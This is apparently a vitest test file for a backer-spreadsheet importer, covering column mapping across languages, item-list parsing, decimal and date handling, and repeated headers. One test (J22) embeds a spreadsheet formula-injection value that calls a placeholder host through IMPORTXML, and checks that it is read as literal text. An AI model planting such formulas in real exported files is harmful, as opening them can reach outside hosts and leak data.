import { describe, expect, test } from 'vitest';
import type { Backer } from '../../../shared/source/backer.ts';
import { settleLayout, withIdPrefix } from '../../../shared/source/layout.ts';
import { layoutOf, type Mapping, suggestMapping } from '../../../shared/source/mapping.ts';
import { readBackers } from '../../../shared/source/read.ts';
import { recogniseReport } from '../../../shared/source/recognise.ts';

const NONE: Mapping = {
  platform: 'other',
  fields: {},
  items: { form: 'none' },
  questions: [],
  idPrefix: '',
  answers: {},
};
const items = (backer: Backer | undefined): string =>
  (backer?.items ?? []).map(({ key, quantity }) => `${key} x${quantity}`).join('; ');

describe('suggestMapping', () => {
  test.each<[string, string[], string[]]>([
    [
      'English',
      [
        'Order #',
        'Full name',
        'E-mail',
        'Street address',
        'Apt',
        'Town',
        'State',
        'Zip code',
        'Country',
        'Phone',
      ],
      ['backerNumber', 'name', 'email', 'line1', 'line2', 'city', 'state', 'postal', 'countryName', 'phone'],
    ],
    [
      'German',
      [
        'Bestellnummer',
        'Vorname',
        'Nachname',
        'E-Mail-Adresse',
        'Straße',
        'Adresszusatz',
        'PLZ',
        'Ort',
        'Land',
        'Telefon',
      ],
      [
        'backerNumber',
        'firstName',
        'lastName',
        'email',
        'line1',
        'line2',
        'postal',
        'city',
        'countryName',
        'phone',
      ],
    ],
    [
      'French',
      [
        'N° de commande',
        'Prénom',
        'Nom',
        'Courriel',
        'Adresse',
        'Complément',
        'Code postal',
        'Ville',
        'Pays',
      ],
      ['backerNumber', 'firstName', 'lastName', 'email', 'line1', 'line2', 'postal', 'city', 'countryName'],
    ],
    [
      'Spanish',
      [
        'Número de pedido',
        'Nombre completo',
        'Correo electrónico',
        'Dirección',
        'Código postal',
        'Ciudad',
        'Provincia',
        'País',
      ],
      ['backerNumber', 'name', 'email', 'line1', 'postal', 'city', 'state', 'countryName'],
    ],
    [
      'Italian',
      ['Numero ordine', 'Nome completo', 'Indirizzo', 'CAP', 'Città', 'Provincia', 'Paese'],
      ['backerNumber', 'name', 'line1', 'postal', 'city', 'state', 'countryName'],
    ],
    [
      'Dutch and Polish',
      ['Bestelnummer', 'Naam', 'Straat', 'Postcode', 'Woonplaats', 'Land', 'Uwagi'],
      ['backerNumber', 'name', 'line1', 'postal', 'city', 'countryName', 'notes'],
    ],
    [
      'Japanese',
      ['注文番号', '氏名', 'メールアドレス', '郵便番号', '都道府県', '市区町村', '住所', '電話番号'],
      ['backerNumber', 'name', 'email', 'postal', 'state', 'city', 'line1', 'phone'],
    ],
    [
      'Chinese',
      ['订单号', '收件人', '手机', '省份', '城市', '地址', '邮编', '国家'],
      ['backerNumber', 'addressName', 'phone', 'state', 'city', 'line1', 'postal', 'countryName'],
    ],
    [
      'a program',
      [
        'order_id',
        'ship_to_name',
        'shippingAddressLine1',
        'ShippingCity',
        'Shipping-Postcode',
        'CountryCode',
      ],
      ['backerNumber', 'addressName', 'line1', 'city', 'postal', 'countryCode'],
    ],
    [
      'names of a recipient',
      [
        'Ship to name',
        'Delivery address 1',
        'shipping_city',
        'Recipient Phone',
        'to_address_zip',
        'Shipping Email',
      ],
      ['addressName', 'line1', 'city', 'phone', 'postal', 'email'],
    ],
  ])('knows the names of columns: %s', (_, header, fields) => {
    const { mapping, ambiguous, unknown } = suggestMapping(header);
    expect(ambiguous).toEqual([]);
    expect(unknown).toEqual([]);
    const found = Object.entries(mapping.fields).sort(([, a], [, b]) => a - b);
    expect(found.map(([field]) => field)).toEqual(fields);
  });

  test('A13: what two columns could be is listed and not taken', () => {
    const { mapping, ambiguous } = suggestMapping([
      'Order ID',
      'Order number',
      'Email',
      'E-mail address',
      'City',
    ]);
    expect(mapping.fields).toEqual({ city: 4 });
    expect(ambiguous).toEqual([
      { field: 'backerNumber', columns: [0, 1] },
      { field: 'email', columns: [2, 3] },
    ]);
  });

  test('nothing is taken by likeness', () => {
    const { mapping, unknown } = suggestMapping([
      ...[
        'Order idea',
        'Citybike',
        'Emails sent',
        'Nickname',
        'Billing city',
        'Shipping quantity',
        'Shipping',
      ],
    ]);
    expect(mapping.fields).toEqual({});
    expect(unknown.map(({ column }) => column)).toEqual([0, 1, 2, 3, 4, 5, 6]);
  });

  test('ids that all begin with the prefix of the campaign are whole Order IDs', () => {
    const rows = [['LH-1'], ['LH-2'], ['']];
    expect(suggestMapping(['Order ID'], { rows, prefix: 'LH' }).mapping.fields).toEqual({ orderId: 0 });
    expect(suggestMapping(['Order ID'], { rows: [['LH-1'], ['7']], prefix: 'LH' }).mapping.fields).toEqual({
      backerNumber: 0,
    });
    expect(suggestMapping(['Order ID'], { rows, prefix: '' }).mapping.fields).toEqual({ backerNumber: 0 });
  });

  test('a SKU and a quantity in a row are a row an item; a list of items is a text', () => {
    expect(suggestMapping(['Order', 'SKU', 'Product', 'Qty']).mapping.items).toEqual({
      form: 'rows',
      sku: 1,
      name: 2,
      quantity: 3,
    });
    expect(suggestMapping(['Order', 'Items']).mapping.items).toEqual({
      form: 'text',
      column: 1,
      text: 'plain',
    });
    expect(suggestMapping(['Order', 'SKU']).mapping.items).toEqual({ form: 'none' });
  });

  test('unknown columns of small whole numbers are proposed as items, years and ids are not', () => {
    const rows = [
      ['1', '2', '2024', '', '12x', '0'],
      ['2', '', '2025', '', '3', ''],
    ];
    const header = ['Order', 'Mug', 'Edition year', 'Empty', 'Shirt', 'Pin'];
    expect(suggestMapping(header, { rows }).quantities).toEqual([1, 5]);
  });

  test.each<[string[], string, string]>([
    [['OrderPublicID', 'ShippingCity'], 'gamefound', 'GF-'],
    [['Crowd Ox Order ID', 'City'], 'crowdox', 'COX-'],
    [['PledgeBox ID', 'City'], 'pledgebox', 'PB-'],
    [['Order ID', 'City'], 'other', ''],
  ])('A2: %j is of %s, whose numbers keep apart', (header, platform, idPrefix) => {
    expect(suggestMapping(header).mapping).toMatchObject({ platform, idPrefix });
  });
});

describe('layoutOf', () => {
  const header = ['No', 'First', 'Last', 'Mug', 'Pin', 'All', 'SKU', 'Size?', 'City'];
  const row = ['#7', 'Ana', 'Berg', '2', '', 'MUG x1; PIN x3', 'MUG', 'M', 'Bath'];
  const with_ = (more: Partial<Mapping>): Backer | undefined =>
    readBackers(
      [row],
      layoutOf(header, { ...NONE, fields: { backerNumber: 0, firstName: 1, lastName: 2 }, ...more }),
    )[0];

  test('fields, questions, and what is left is unknown', () => {
    const mapping = { ...NONE, fields: { backerNumber: 0, city: 8 }, questions: [7] };
    expect(layoutOf(header, mapping)).toMatchObject({
      platform: 'other',
      label: 'Your own columns',
      rows: 'order',
      questions: [{ column: 7, question: 'Size?' }],
      sure: true,
    });
    expect(layoutOf(header, mapping).unknown.map(({ name }) => name)).toEqual([
      'First',
      'Last',
      'Mug',
      'Pin',
      'All',
      'SKU',
    ]);
    expect(with_({ questions: [7] })).toMatchObject({
      backerNumber: '7',
      name: 'Ana Berg',
      questions: [{ question: 'Size?', answer: 'M' }],
    });
  });

  test('items by columns, by names or by SKUs', () => {
    expect(items(with_({ items: { form: 'columns', columns: [3, 4], skus: false } }))).toBe('item:Mug x2');
    expect(items(with_({ items: { form: 'columns', columns: [3, 4], skus: true } }))).toBe('sku:Mug x2');
  });

  test('items by a row each; without a quantity column a row is one unit', () => {
    expect(items(with_({ items: { form: 'rows', sku: 6, name: -1, quantity: 3 } }))).toBe('sku:MUG x2');
    expect(items(with_({ items: { form: 'rows', sku: -1, name: 6, quantity: -1 } }))).toBe('item:MUG x1');
  });

  test.each<[string, string]>([
    ['MUG x1; PIN x3', 'sku:MUG x1; sku:PIN x3'],
    ['MUG x1, PIN x3', 'sku:MUG x1; sku:PIN x3'],
    ['MUG ×1\nPIN × 3', 'sku:MUG x1; sku:PIN x3'],
    ['2 x MUG; 1x PIN, blue', 'sku:MUG x2; sku:PIN, blue x1'],
    ['Box, 6 x dice x2', 'sku:Box, 6 x dice x2'],
    ['MUG x1; MUG x2', 'sku:MUG x3'],
    ['MUG x0', ''],
    ['MAX x2', 'sku:MAX x2'],
    ['', ''],
  ])('items of one cell: %j', (cell, expected) => {
    const layout = layoutOf(['No', 'All'], {
      ...NONE,
      fields: { backerNumber: 0 },
      items: { form: 'text', column: 1, text: 'plain' },
    });
    const [read] = readBackers([['1', cell]], layout);
    expect(items(read)).toBe(expected);
    expect(read?.problems.map(({ code }) => code)).toEqual(['source.state-unknown']);
  });

  test.each(['MUG', 'MUG; PIN x1', '2', 'x2', 'MUG x'])(
    'C10: a list without quantities is a problem: %j',
    (cell) => {
      const layout = layoutOf(['No', 'All'], {
        ...NONE,
        fields: { backerNumber: 0 },
        items: { form: 'text', column: 1, text: 'plain' },
      });
      const [read] = readBackers([['1', cell]], layout);
      expect(read?.items).toEqual([]);
      expect(read?.problems).toContainEqual({ code: 'items.unreadable', column: 'All', value: cell });
    },
  );

  test('a list of names is one of each, by choice', () => {
    const names = {
      ...NONE,
      fields: { backerNumber: 0 },
      items: { form: 'text', column: 1, text: 'names' },
    } as const;
    const read = (cell: string): string =>
      items(readBackers([['1', cell]], layoutOf(['No', 'All'], names))[0]);
    expect(read('Mug, Pin')).toBe('item:Mug x1; item:Pin x1');
    expect(read('Mug, blue; Pin; Pin')).toBe('item:Mug, blue x1; item:Pin x2');
  });

  test('J22: text that looks like a formula is read exactly', () => {
    const evil = '=IMPORTXML("http://x.example","//a")';
    const [read] = readBackers(
      [['1', evil, '']],
      layoutOf(['No', 'Name', 'x'], { ...NONE, fields: { backerNumber: 0, name: 1 } }),
    );
    expect(read?.name).toBe(evil);
  });

  test('columns that the file does not have are left out', () => {
    const layout = layoutOf(['No'], { ...NONE, fields: { backerNumber: 0, city: 5 }, questions: [9] });
    expect([...layout.fields.keys()]).toEqual(['backerNumber']);
    expect(layout.questions).toEqual([]);
  });

  test('J21, G28: amounts with one sign before three digits are asked when nothing tells; commas of others tell', () => {
    const mapping = { ...NONE, fields: { backerNumber: 0, pledged: 1 } };
    const at = (rows: string[][]) => layoutOf(['No', 'Betrag'], mapping, rows);
    expect(at([['1', '1.234']]).asks).toEqual([
      { kind: 'decimal', id: 'decimal', column: 1, sample: '1.234' },
    ]);
    expect(
      at([
        ['1', '1.234'],
        ['2', '12,50'],
      ]),
    ).toMatchObject({ sure: true, decimal: ',' });
    expect(
      at([
        ['1', '1.234,50'],
        ['2', '7'],
      ]),
    ).toMatchObject({ sure: true });
    const rows = [
      ['1', '1.234'],
      ['2', '1.234,50'],
    ];
    expect(readBackers(rows, at(rows)).map(({ pledged }) => pledged?.amount)).toEqual(['1234', '1234.50']);
    const point = settleLayout(at([['1', '1.234']]), { decimal: '.' });
    expect(readBackers([['1', '1.234']], point)[0]?.pledged?.amount).toBe('1.234');
  });

  test('answers that are remembered with the mapping settle the same questions', () => {
    const mapping = { ...NONE, fields: { backerNumber: 0, pledgedAt: 1 } };
    const rows = [['1', '03/04/2025']];
    expect(layoutOf(['No', 'Date'], mapping, rows).sure).toBe(false);
    const again = layoutOf(['No', 'Date'], { ...mapping, answers: { 'day-order': 'dmy' } }, rows);
    expect(again).toMatchObject({ sure: true, dayOrder: 'dmy' });
    expect(readBackers(rows, again)[0]?.pledgedAt).toBe('2025-04-03 00:00:00Z');
  });

  test('one date that can be read one way only tells the order of all', () => {
    const mapping = { ...NONE, fields: { backerNumber: 0, pledgedAt: 1 } };
    const rows = [
      ['1', '03/04/2025'],
      ['2', '25/04/2025'],
    ];
    expect(layoutOf(['No', 'Date'], mapping, rows)).toMatchObject({ sure: true, dayOrder: 'dmy' });
    const both = [...rows, ['3', '04/25/2025']];
    expect(layoutOf(['No', 'Date'], mapping, both).asks.map(({ id }) => id)).toEqual(['day-order']);
  });

  test('A2: a mark of its own can be given to the numbers of a file', () => {
    const layout = withIdPrefix(layoutOf(['No'], { ...NONE, fields: { backerNumber: 0 } }), 'B-');
    expect(
      readBackers([['#7'], ['']], layout).map(({ idPart, backerNumber }) => [idPart, backerNumber]),
    ).toEqual([
      ['B-7', '7'],
      ['', ''],
    ]);
  });

  test('A1: an Order ID stands as it is, beside a backer number', () => {
    const layout = layoutOf(['Ours', 'No'], { ...NONE, fields: { orderId: 0, backerNumber: 1 } });
    const [both, number, none] = readBackers(
      [
        ['LH-0042#a', '7'],
        ['', '8'],
        ['', ''],
      ],
      layout,
    );
    expect(both).toMatchObject({ orderId: 'LH-0042#a', idPart: '7' });
    expect(number).toMatchObject({ orderId: '', idPart: '8' });
    expect(none?.problems.map(({ code }) => code)).toContain('id.missing');
  });
});

describe('repeated headers', () => {
  const header = [
    ...['Perk ID', 'Order No.', 'Pledge ID', 'Funding Date', 'Name', 'Email', 'Amount', 'Perk'],
    ...['Shipping Name', 'Shipping Address', 'Shipping City', 'Name', 'Email'],
  ];
  const row = [
    '1',
    '42',
    '7',
    '2015-03-02',
    'Ana',
    '',
    '$5',
    'Book',
    'Ana',
    'Rua 1',
    'Porto',
    'Ana',
    'ana@example.com',
  ];

  test('of two columns of one name the filled one counts, and the same twice is once', () => {
    const [layout] = recogniseReport(header, [row]);
    expect(layout?.sure).toBe(true);
    expect(layout && readBackers([row], layout)[0]).toMatchObject({ name: 'Ana', email: 'ana@example.com' });
    expect(layout?.unknown.map(({ column }) => column)).toEqual([11, 5]);
  });

  test('two that are filled and differ are asked; the answer is one of them', () => {
    const other = row.map((cell, i) => (i === 11 ? 'Bo' : cell));
    const [layout] = recogniseReport(header, [other]);
    if (layout === undefined) throw new Error('Not recognised');
    expect(layout.asks).toEqual([{ kind: 'column', id: 'column:name', field: 'name', columns: [4, 11] }]);
    expect(settleLayout(layout, { 'column:name': '3' }).sure).toBe(false);
    const settled = settleLayout(layout, { 'column:name': '11' });
    expect(settled.sure).toBe(true);
    expect(readBackers([other], settled)[0]?.name).toBe('Bo');
  });
});
